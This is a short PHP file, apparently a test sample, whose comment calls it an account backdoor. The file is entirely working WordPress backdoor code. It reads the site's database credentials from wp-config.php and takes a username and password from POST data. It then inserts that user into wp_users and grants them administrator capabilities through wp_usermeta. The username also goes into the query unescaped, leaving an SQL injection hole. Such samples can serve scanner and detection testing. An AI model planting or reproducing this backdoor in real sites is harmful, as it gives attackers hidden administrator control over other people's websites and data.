<?php
// an account backdoor that writes an administrator into the users table with its own SQL
// (written for the tests, never run)
require 'wp-config.php';
$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
if (isset($_POST['u'])) {
    $hash = md5($_POST['p']);
    $db->query("INSERT INTO wp_users (user_login, user_pass, user_email) VALUES ('" . $_POST['u'] . "', '$hash', 'x@example.invalid')");
    $id = $db->insert_id;
    $db->query("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES ($id, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}')");
}
